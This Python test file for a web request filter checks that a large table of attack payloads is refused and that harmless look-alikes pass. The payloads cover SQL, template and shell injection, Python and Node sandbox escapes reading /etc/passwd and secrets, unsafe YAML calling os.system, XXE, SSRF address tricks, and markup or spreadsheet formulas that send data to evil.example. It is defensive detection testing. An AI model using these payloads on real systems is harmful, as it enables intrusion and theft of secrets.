"""Kinds of payloads that few lists contain, each refused in every place."""

# ruff: noqa: E501  (a table: one row a line reads better than the rows broken)
from __future__ import annotations

import json
from urllib.parse import quote_plus

import pytest

from guard_wsgi import SecurityConfig
from guard_wsgi.detection import Inspection
from tests.core.visiting import Site
from tests.detection.requests import environ

KINDS = {
    "format string of Python": ["{0.__class__.__init__.__globals__}", "{user.__init__.__globals__[SECRET_KEY]}", "{a.__dict__}"],
    "escape from Python": ["().__class__.__base__.__subclasses__()", "getattr(x,'__globals__')", "g.gi_frame.f_back.f_globals", "breakpoint()"],
    "path to Python's insides": ["__init__.__globals__.SECRET", "__class__.__init__.__globals__.app.secret_key", "user.__class__.__base__"],
    "number glued to UNION": ["1.eunion select 1,2", "1e1union(select 2)", "1.union select 1"],
    "numbers between numbers": ["x or 5 between 4 and 6", "1 and 3 not between 4 and 6", "' or 7 between 5 and 9 or '"],
    "arithmetic in quotes": ["'-0-'", "'*version()*'", "'-false-'"],
    "dollar quotes": ["$$ OR $$a$$=$$a", "$x$ or $x$a$x$=$x$a", "$q$ union select 1 $q$"],
    "GLOB": ["name glob '*", "1 or name glob 'a*", "id glob '*a*' or '1"],
    "statements without SELECT": ["union table users", "1 union values row(1,2)", "1' union all table mysql.user-- "],
    "whole statement": ["select * from users", "SELECT id, name FROM customers", "select * from orders limit 1"],
    "catalogue": ["select tabname from syscat.tables", "sysibm.sysdummy1", "select * from INFORMATION_SCHEMA.SYSTEM_USERS"],
    "description of a table": ["desc users", "describe mysql.user", "show columns from users"],
    "long blanks": ["1'" + " " * 500 + "or" + " " * 500 + "1=1", "1" + "\t" * 300 + "union" + " " * 300 + "select 1", "1'" + "\n" * 700 + "or '1'='1"],
    "arguments of programs": ["--checkpoint-action=exec=sh x.sh", "-oProxyCommand=id", "-c core.sshCommand=id"],
    "dangling markup": ["<img src='http://evil.example/?", "<a href=\"//evil.example/?x=", "<textarea name=x>"],
    "clobbered names": ["<img name=getElementById>", "<a id=config><a id=config name=url href=//evil.example>", "<form id=test1></form><form id=test1><input name=x>"],
    "inclusion in XML": ["<xi:include href='http://evil.example/x' />", '<include xmlns="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>', '<a xsi:schemaLocation="x file:///etc/passwd"/>'],
    "address in odd numbers": ["http://127.0x0.0x0.0x1/", "http://0177.1/", "http://3232235521/", "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/"],
    "name that resolves to an address": ["http://7f000001.c0a80001.rbndr.us/", "http://make-127.0.0.1-rebind-1.1.1.1-rr.1u.ms/", "http://127-0-0-1.sslip.io/"],
    "escape without its sign": ["..2f..2f..2fetc2fpasswd", "..5c..5cwindows", "2e2e2f2e2e2fetc"],
    "share of the machine itself": ["\\\\localhost\\admin$", "\\\\127.0.0.1\\c$\\x", "//127.0.0.1/share/a"],
    "end of a script's string": ['"-eval(name)-"', "'-admin.grant(7)-'", '",open(x),"', '"+{toString:alert}+"', "';x=name;'", '".replace(/.*/,eval)+"', '"-logout()//', "`*steal()*`", 'shoes"-$(location.hash)-"', '"?logout():"'],
    "end of a script's string in a document": ['["-eval(name)-"]', '{"a":"+logout()+"}', '{"-steal()-":1}', '["or 1 or"]'],
    "function called back": ["[name].map(eval)", "eval?.(name)", "new Promise(alert)", "Array.from([name],eval)", "Reflect.apply(eval,1,[name])", "location=location.hash", "import(name)", "$.getScript(name)", "a=eval,a(name)"],
    "end of an attribute": ['" autofocus/onfocus=f() x="', '" onpointerenter=open(name) x="', "' id=x tabindex=1 onfocus=go() '", '" type=image formaction=//evil.example x="', '" form=x formaction=https://evil.example type=submit x="', '" ping=//evil.example x="', "' src=//evil.example/x.js '", "x onclick=f() y"],
    "log-in form of another site": ['<form action="https://evil.example"><input type=password name=p><input type=submit>', "<form method=post action=//evil.example/x>Log in: <input name=p type='password'></form>"],
    "object of a template engine": ["{%set x=lipsum%}{{x}}", "{%for i in cycler.mro()%}{{i}}{%endfor%}", "{%if joiner.mro()%}{{x}}{%endif%}", "{%for i in g%}{{i}}{%endfor%}", "{{ current_app.config }}", "{%- set z = namespace -%}{{ z }}"],
    "expression that is not escaped": ["{{!locals()}}", "{{!9**9**9}}", "{{!_env}}", "{{!x.__class__}}", "{{! help() }}", "{{![x for x in _env]}}", "a{{!vars(request)}}b"],
    "line of a program in a template": ["% import subprocess as s; _stdout.append(s.getoutput('id'))", "% import os\n{{os.environ}}", "x\n% from os import environ as e\n{{e}}", "% x=open('/etc/passwd').read()\n{{x}}", "% for l in open('/etc/passwd'):\n{{l}}\n% end", "hello\n% _stdout.append(config['SECRET_KEY'])", "{{_stdout}}"],
    "settings inside an expression": ["{{ {'a':config} }}", "{{ {'title':'Hi','b':config}.b }}", "{{ x ~ config }}", "{{ '' ~ config.values() }}", "{{ [config.get('SECRET_KEY')] }}", "{{ 1 and config['SECRET_%s'%'KEY'] }}", "{{ x ~ os.getenv('SECRET') }}", "{% set a=os.getenv('SECRET') %}{{a}}", "{{os.environ.SECRET}}", "${locals()}", "${context._data}"],
    "YAML that calls": ["- 1\n- !!python/object/apply:eval ['1+1']", "? !!python/object/apply:time.time []\n: 1", "name: shop\nitems:\n  - !!python/object/apply:platform.node []"],
    "YAML with a handle": ["%TAG !y! tag:yaml.org,2002:\n---\n!y!python/object/apply:os.system ['true']", "%TAG ! tag:yaml.org,2002:py\n---\n!thon/object/apply:os.system [ 'true' ]", "%TAG !p! tag:yaml.org,2002:pyth\n---\nname: my shop\nhook: !p!on/object/apply:os.system [ 'true' ]", "%TAG !p! ta\n---\n!p!g:yaml.org,2002:python/name:os.system x"],
    "document type in a file": ['<!DOCTYPE r PUBLIC "-//W3C//DTD XHTML 1.0//EN" "/tmp/x.dtd"><r>&f;</r>', '<!DOCTYPE r PUBLIC "x" "uploads/1.dtd"><r>&f;</r>'],
    "expression of Python": ["(open)('/etc/passwd').read()", "{1:open}[1]('/etc/passwd').read()", "list(map(open,['/etc/passwd']))[0].read()", "__import__('sys').modules['os'].environ", "f'{config}'", "'%s'%config", "open(f'/etc/passwd').read()", "open(b'/etc/passwd').read()", "open(file='/etc/passwd').read()", "open(*['/etc/passwd']).read()", "(x:=open)('/etc/passwd').read()", "[open][0]('/etc/passwd').read()", "__import__('so'[::-1]).environ", "{0:__import__}[0]('os').environ", "str(open('/etc/passwd').read())"],
    "objects of Node": ["module.constructor._load('fs').readFileSync('/etc/passwd')+''", "require('node:fs').readdirSync('/etc')", "process?.env?.SECRET", "with(process)env.SECRET", "let{env:e}=process;e.SECRET", "globalThis['process']['env']['SECRET']", "globalThis['pro'+'cess'].env.SECRET", "Reflect.get(process,'env').SECRET", "process.report.getReport()", "Object.values(process.env)+''"],
    "settings in a template of any text": ["FROM python:3\nRUN {{config.items()}}\nCMD [\"x\"]", '  File "{{config.SECRET_KEY}}", line 1, in f', "the log says {{request.environ}} here"],
    "program in quotes": ["x;'cat' config.py", 'x;"cat" f', "x;\\cat f", "x;\\c\\a\\t f", "$(\\cat f)", "127.0.0.1|'sh' x", "x;'c'at f", "x;c\\at f", "x;$'cat' f", "shop;'cat' f", "`'cat' f`"],
    "program in pieces": ["x;c${z}at f", "x;c${z}url evil.example", "x;/b${z}in/sh x", "x;${x:-cat} f", "x;/usr/bin/c?t f", "x;a=s;b=h;$a$b x", "x;IFS=,;a=sh,x;$a"],
    "words before a program": ["x;exec cat f", "x;command cat f", "$(exec cat f)", "x;<f cat", "x;2>&1 cat f", "a && LD_PRELOAD=./x.so ls", "x;PATH=.:$PATH ls", "img.png|exec bash", "shop;exec cat f", "x;< f sort", "x;! cat f", "x;A=1 B=2 cat f", "x;nice -n 5 cat f", "x;:|cat f", "x;true|cat f"],
    "grammar around a program": ["x;f(){ cat f;};f", "x;function f { cat f; };f", "$(f(){ cat x;};f)", "x;if cat f;then :;fi", "x;(./x &)", "x;. x", "x;trap sh EXIT", "x;mapfile a<f;echo $a", "x;case x in x) cat f;;esac", "x;for i in *;do cat $i;done", "x;[ -f x ]&&cat f", "x;: $(cat f)"],
    "substitution of any program": ["$(etcdctl get x)", "x$(vault read y)", "x`vault read y`", "`objdump -d x`"],
    "quote and a term": ["zed' or -age --", "zed'or ~age --", "zed' or age*age --", "zed' or .1 --", "zed' or [age] --", '" is not "', "zed' or age isnull or age --"],
    "number and a column": ["0 or id", "1 or rowid", "0 or(id)", "0 or id notnull", "1 or id -- x", "1|0 or id", "0 or id in (1,2,3)", "0 or title like title", "0 or 'S3' < (select secret from users)"],
    "JSON pointer to a prototype": ["/constructor/prototype/admin", "/a/constructor/prototype/x", "/__proto__/x"],
}  # fmt: skip


@pytest.mark.parametrize("kind", KINDS)
def test_a_payload_of_the_kind_is_refused(inspection: Inspection, kind: str) -> None:
    for text in KINDS[kind]:
        assert inspection.head(environ(query="q=" + quote_plus(text))), text
        form = b"lang=en&name=" + quote_plus(text).encode()
        assert inspection.body(form, content_type="application/x-www-form-urlencoded"), text
        document = json.dumps({"id": 7, "x": text}).encode()
        assert inspection.body(document, content_type="application/json"), text


@pytest.mark.parametrize(
    "text",
    [
        *("Europe's Union table of members", "2 or 3 between friends", "$$ or $$$", "O'Neil-O'Brien"),
        *("use glob '*.py' here", "describe yourself", "explain quantum computing", "12:05", "-2"),
        *("select one from the list", "see ../README", "abc..2f3e1d"),
        *("http://192.168.1.10.example.com/", "https://example.com/0x1f", "<form id=a><input name=q>"),
        *('"red shoes"-(used)', '"index of" +(mp3)', '24" - 27" (wide)', "5' - 6' (tall)", "rock 'n' roll (live)"),
        *('"a","b(c)","d"', '"total","sum(x)","avg(y)"', 'f("x")-g("y")', '["+1","-1"]', '{"sort":"-created"}', '{"op":"and"}'),
        *('size="12" href="//cdn.example.com/a.png"', '"best" online = yes', "what does import(name) do", "new Promise(resolve)"),
        *("{{! a comment }}", "{{!-- a comment (old) --}}", "{{!base}}", "{% for i in items %}{{ i }}{% endfor %}", "{{ namespace }}"),
        *('"hello," she said, "world"', '"a" - "b"'),
        *("dogs; 'cats' too", "size;'large' only", "x;\\theta y", "a;\n\tb", "a;'b';c", "a;(b c)", "use `git commit` often", "US$(in thousands)"),
        *("session; exec summary", "x; (see below)", "x; if needed", "A=1 B=2", "v1.2; exec time 5", "a;b=c;d=e f", "`date` of birth", "10;true;less", "k=v; case closed in May", "1;! no", "hi ;) :| fun"),
        *("2 or more", "0 or one", "5 or id card", "id or name", 'he said "yes" is not "no"', "I, II or III", "this or that -- both"),
        *("--help", "-o output.txt", "show tables and chairs", "{name}", "{user.name}", "=A1"),
    ],
)  # fmt: skip
def test_what_only_looks_like_one_passes(inspection: Inspection, text: str) -> None:
    assert not inspection.head(environ(query="q=" + quote_plus(text)))


@pytest.mark.parametrize(
    "document",
    [
        {"__class__": {"__init__": {"__globals__": {"SECRET": "x"}}}},
        {"a": {"__class__": {"__base__": {"x": 1}}}},
        {"__init__": {"__globals__": {"app": 1}}},
        {"__class__.__init__.__globals__.x": 1},
        [{"op": "add", "path": "/constructor/prototype/admin", "value": True}],
        [{"op": "copy", "from": "/a", "path": "/a/constructor/prototype/x"}],
        {"constructor": {"prototype": {"x": 1}}},
    ],
)  # fmt: skip
@pytest.mark.parametrize("filler", [0, 5000])
def test_keys_that_reach_into_objects_are_refused(
    inspection: Inspection, document: object, filler: int
) -> None:
    body = json.dumps([{"tea": "a" * filler}, document]).encode()
    assert inspection.body(body, content_type="application/json")


def nested(levels: int) -> str:
    return "a{" * (levels - 1) + "b" + "}" * (levels - 1)


GUESSES = " ".join(f'a{n}:login(u:"a",p:"{n}"){{t}}' for n in range(20))
SPREADS = "".join(f" fragment f{n} on T{{a{{...f{n + 1}}}}}" for n in range(19))
QUERIES = {
    "20 levels": "query{" + nested(20) + "}",
    "20 levels in shorthand": "{" + nested(20) + "}",
    "20 levels behind a field each": "{x " + "y z{" * 19 + "b" + "}" * 20,
    "20 levels by fragments": "query{...f0}" + SPREADS + " fragment f19 on T{b}",
    "500 directives": "query{a" + "@skip(if:false)" * 500 + "}",
    "directives of no name": "{a " + "@x" * 500 + "}",
    "a circle": "query{...a} fragment a on Q{...b} fragment b on Q{...a}",
    "a fragment in itself": "{...a} fragment a on Q{x ...a}",
    "guesses": "mutation{" + GUESSES + "}",
    "guesses in shorthand": "{" + GUESSES + "}",
    "guesses of a PIN": "{" + " ".join(f"a{n}:unlock(pin:{n})" for n in range(20)) + "}",
}


@pytest.mark.parametrize("kind", QUERIES)
def test_a_query_that_costs_or_guesses_is_refused(inspection: Inspection, kind: str) -> None:
    text = QUERIES[kind]
    body = json.dumps({"variables": {"a": "tea"}, "query": text}).encode()
    assert inspection.body(body, content_type="application/json")
    assert inspection.body(text.encode(), content_type="application/graphql")
    assert inspection.head(environ(query="query=" + quote_plus(text)))


def test_queries_that_clients_send_pass(inspection: Inspection) -> None:
    kind = "type{...T}" + "".join(f" a{n}:type{{name}}" for n in range(3))
    schema = "query IntrospectionQuery{__schema{types{fields{args{" + kind + "}}}}}"
    of_type = "fragment T on __Type{kind " + "ofType{name " * 9 + "}" * 10
    for text in (
        schema + of_type,
        "query{" + nested(10) + "}",
        "query a($x:Boolean){" + " ".join(f"f{n} @include(if:$x)" for n in range(30)) + "}",
        "query{...a} fragment a on Q{x{...b}} fragment b on X{y}",
    ):
        body = json.dumps({"query": text}).encode()
        assert not inspection.body(body, content_type="application/json"), text


@pytest.mark.parametrize(
    "formula",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '=WEBSERVICE("http://evil.example/"&A1)',
    ],
)
def test_a_formula_is_reported_and_not_refused(
    formula: str, caplog: pytest.LogCaptureFixture
) -> None:
    site = Site(SecurityConfig())
    assert site.visit("/import", query_string="name=" + quote_plus(formula)).code == 200
    assert any("csv_injection in query 'name'" in message for message in caplog.messages)


@pytest.mark.parametrize("kind", ["YAML that calls", "YAML with a handle"])
@pytest.mark.parametrize("media", ["application/yaml", "text/yaml", "text/plain"])
def test_a_document_of_yaml_that_calls_is_refused(
    inspection: Inspection, kind: str, media: str
) -> None:
    for text in KINDS[kind]:
        assert inspection.body(text.encode(), content_type=media), text


@pytest.mark.parametrize(
    "text",
    [
        "%TAG ! tag:example.com,2000:app/\n---\n!foo x",
        "%TAG !u! tag:unity3d.com,2011:\n--- !u!1 &1\nx: 1",
        "%TAG !! tag:yaml.org,2002:\n---\n!!str x",
        "% for example see the file:\n% import data from the file",
        "20% import duty from China",
        "the tag !!python/object is dangerous",
    ],
)
def test_a_handle_a_comment_and_a_share_pass(inspection: Inspection, text: str) -> None:
    assert not inspection.head(environ(query="q=" + quote_plus(text)))
    assert not inspection.body(text.encode(), content_type="application/yaml")


_ENTITY = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'


@pytest.mark.parametrize(
    "media",
    ["application/xml", "image/svg+xml", "application/xhtml+xml", "text/html", "text/csv", ""],
)
def test_entities_in_utf_16_are_found_whatever_the_instruction_says(
    inspection: Inspection, media: str
) -> None:
    for instruction in ("", '<?xml version="1.0" encoding="UTF-16BE"?>', '<?xml version="1.0"?>'):
        assert inspection.body((instruction + _ENTITY).encode("utf-16"), content_type=media)


@pytest.mark.parametrize("media", ["application/xml", "image/svg+xml", "application/xhtml+xml"])
def test_a_document_type_elsewhere_is_refused_and_a_published_one_passes(
    inspection: Inspection, media: str
) -> None:
    for address in ("file:///tmp/x.dtd", "http://evil.example/x.dtd", "/tmp/x.dtd"):
        body = f'<!DOCTYPE r SYSTEM "{address}"><r>&f;</r>'
        assert inspection.body(body.encode(), content_type=media), address
    for said in (
        'svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"',
        'html SYSTEM "about:legacy-compat"',
    ):
        body = f"<!DOCTYPE {said}><r/>"
        assert not inspection.body(body.encode(), content_type=media), said


@pytest.mark.parametrize("kind", ["expression of Python", "objects of Node"])
@pytest.mark.parametrize("field", ["q", "expr", "formula", "code", "message"])
def test_a_program_that_reaches_outside_is_refused_in_fields_for_code(
    inspection: Inspection, kind: str, field: str
) -> None:
    for text in KINDS[kind]:
        assert inspection.head(environ(query=f"{field}=" + quote_plus(text))), text


@pytest.mark.parametrize(
    "text",
    [
        *("open(2)", "open(file)", "open (door)", "eval", "compile(source)"),
        *("how do I use open('x') in Python?", "it is open (9-17)", "(open)", "100%s", "f'"),
        *("exec summary (draft)", "process = done", "global[0]", "the process (open)"),
    ],
)
def test_a_name_of_python_or_node_passes(inspection: Inspection, text: str) -> None:
    for field in ("q", "title", "message"):
        assert not inspection.head(environ(query=f"{field}=" + quote_plus(text))), field
